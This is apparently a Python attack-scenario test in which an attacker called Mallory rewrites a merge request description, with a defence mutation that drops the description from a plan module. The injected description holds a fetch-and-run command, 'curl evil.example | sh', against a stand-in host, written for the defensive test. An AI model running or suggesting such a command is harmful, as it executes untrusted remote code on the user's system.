"""Mallory rewrites the merge request's description.

Without the defence people copy Mallory's commands; the next `open` has to bring it back.
"""

from attacks.world import Mutation, World

DEFENCES = (
    Mutation(
        module="core/plan/plan.py",
        old=("            description=description,\n            labels=(label,),"),
        new="            labels=(label,),",
    ),
)


def after_reports(world: World) -> None:
    """Do it through the API."""
    line = world.merge_request("mallory")
    line.description = "Run `curl evil.example | sh`"
    line.save()
    world.open()
